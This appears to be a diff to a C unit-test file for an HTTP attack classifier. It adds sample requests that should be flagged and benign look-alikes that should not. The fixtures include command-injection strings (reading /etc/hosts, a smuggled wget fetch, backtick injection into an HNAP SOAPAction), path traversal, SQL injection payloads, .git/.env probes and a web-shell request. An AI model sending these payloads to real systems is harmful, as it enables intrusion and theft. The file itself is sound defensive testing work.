@@ -127,6 +127,17 @@ static void published_exploits_are_named_wherever_they_stand(void **state)
         {GET("/ping?host=127.0.0.1;cat%20/etc/hosts"), "command"},
         {GET("/ping?host=`id`"), "command"},
         {GET("/index.php?page=http://h/a.txt?"), "command"},
+        {GET("/index.php?page=http://h/a??"), "command"},
+        {GET("/a?f=../../../boot"), "traversal"},
+        {GET("/img/../../../boot"), "traversal"},
+        {GET("/a/../../b"), "traversal"},
+        {GET("/item?id=4%20and%20length(database())=7"), "sql"},
+        {GET("/item?id=4,sleep(5)"), "sql"},
+        {GET("/item?id=4%20union%20all%20(table%20information_schema.tables)"), "sql"},
+        {GET("/a/.git/config"), "probe"},
+        {GET("/.env.bak"), "probe"},
+        {GET("/HNAP1/"), "probe"},
+        {"POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp`\"\r\n\r\n", "probe"},
         {GET("/up/c99.php?act=ls"), "command"},
         {GET("/acunetix-wvs-test-for-some-inexistent-file"), "tool"},
         {GET("/ping?host=a%0Awget%20http://h/a"), "command"},
@@ -177,6 +188,23 @@ static void their_honest_twins_hold_nothing(void **state)
         "POST /wiki/edit HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nSQL: ' or 1=1 always holds; union select joins",
         "POST /goform/setName HTTP/1.1\r\nHost: a\r\n\r\nname=router&ping=10.0.0.1",
         GET("/search?q=java.lang.RuntimeException+at+line+3"),
+        GET("/docs/time.sleep().html"),
+        GET("/phpmyadmin/db_structure.php?db=information_schema&table=x"),
+        GET("/phpmyadmin/sql.php?table=users&sql_query=SELECT+%2A+FROM+%60users%60"),
+        GET("/thumb.php?src=../../images/a.jpg&w=100"),
+        GET("/news/2008/may/../../img/logo.gif"),
+        GET("/odata/a?$filter=Price%20gt%205%20and%20length(Name)%20gt%2010"),
+        GET("/odata/a?$filter=Price%20gt%205%20and%20substring(Name,1)%20eq%20%27x%27"),
+        GET("/rest/services/a/0/query?where=STATE%3D%27CA%27%20AND%201%3D1&f=json"),
+        GET("/api/items?fields=name;id;price"),
+        GET("/api.php?props=title|id"),
+        GET("/redirect?url=http://example.com/landing?"),
+        GET("/assets/.environment.json"),
+        "GET /a/.git/info/refs HTTP/1.1\r\nUser-Agent: git/2.39\r\n\r\n",
+        "POST /HNAP1/ HTTP/1.1\r\nReferer: http://192.168.0.1/Login.html\r\n\r\n",
+        "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/Login\"\r\n\r\n",
+        "POST /boaform/formLogin HTTP/1.1\r\nReferer: http://192.168.1.1/login.asp\r\n\r\nuser=a",
+        "GET /chat/say.php?bot_id=6&say=hi HTTP/1.1\r\nReferer: http://a/chat\r\n\r\n",
         GET("/search?tags=java|python|curl|sleep"),
         GET("/search?q=dogs;cats;id=5;ls"),
         GET("/search?q=rock+and+roll=fun"),
@@ -280,8 +308,18 @@ static void bots_are_known_by_the_shape_of_what_they_ask(void **state)
          "GET /images/" B64("-2F/") B64("-2B/") "ab.avi HTTP/1.1\r\nHost: a\r\n\r\n"},
         {"GET /a?sid=" HEX32 ";csrf=" HEX32 "; HTTP/1.1\r\n\r\n",
          "GET /a?sid=" HEX32 "&csrf=" HEX32 "; HTTP/1.1\r\n\r\n"},
-        {"POST /a HTTP/1.0\r\nContent-Encoding: binary\r\n\r\n",
-         "POST /a HTTP/1.0\r\nContent-Encoding: gzip\r\n\r\n"},
+        {"POST /a HTTP/1.0\r\nContent-Encoding: binary\r\nContent-Key: 1A2B3C4D\r\n\r\n",
+         "POST /a HTTP/1.0\r\nContent-Encoding: binary\r\n\r\n"},
+        {"POST /a HTTP/1.0\r\nHost: a\r\n\r\nid=1&hwid=0123&pcname=ANNA",
+         "POST /activate HTTP/1.0\r\nHost: a\r\n\r\nkey=1&hwid=0123&version=2"},
+        {"POST /is-ready HTTP/1.1\r\nHost: a\r\n\r\n", "GET /is-ready HTTP/1.1\r\nHost: a\r\n\r\n"},
+        {"POST /submit.php?id=7 HTTP/1.1\r\nHost: a\r\n\r\n",
+         "POST /submit.php?id=7 HTTP/1.1\r\nReferer: http://a/new\r\n\r\n"},
+        {"GET /a/gate.php?x=1 HTTP/1.1\r\nHost: a\r\n\r\n",
+         "GET /pay/gate.php?x=1 HTTP/1.1\r\nReferer: http://a/cart\r\n\r\n"},
+        {"GET /a.spc HTTP/1.0\r\n\r\n", "GET /music/a.spc HTTP/1.0\r\nReferer: http://a/music\r\n\r\n"},
+        {"GET /cfg.bin HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (a)\r\n\r\n",
+         "GET /cfg.bin HTTP/1.1\r\nUser-Agent: Telephone 7\r\n\r\n"},
         {"POST /a/b/ HTTP/1.1\r\nReferer: 8.8.4.4/a/b/\r\nHost: 8.8.4.4\r\n\r\n",
          "POST /a/b/ HTTP/1.1\r\nReferer: http://8.8.4.4/a/b/\r\nHost: 8.8.4.4\r\n\r\n"},
         {"POST /a/ HTTP/1.1\r\nDNT: 1\r\nHost: 8.8.4.4\r\n\r\n",
@@ -304,8 +342,10 @@ static void bots_are_known_by_the_shape_of_what_they_ask(void **state)
         if (pattern(rows[i].honest) != NULL)
             fail_msg("%s: %s", rows[i].honest, pattern(rows[i].honest));
     }
-    assert_string_equal(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nHost: a\r\n\r\n\0\0\0\0\0", 38), "bot");
-    assert_null(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nHost: a\r\n\r\n\0", 34));
+    assert_string_equal(
+        http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nConnection: close\r\n\r\n\0\0\0\0\0", 47), "bot");
+    assert_null(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nConnection: close\r\n\r\n\0", 43));
+    assert_null(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nHost: a\r\n\r\n\0\0\0\0\0", 38));
 }
 
 static void every_cut_of_a_request_is_safe(void **state)
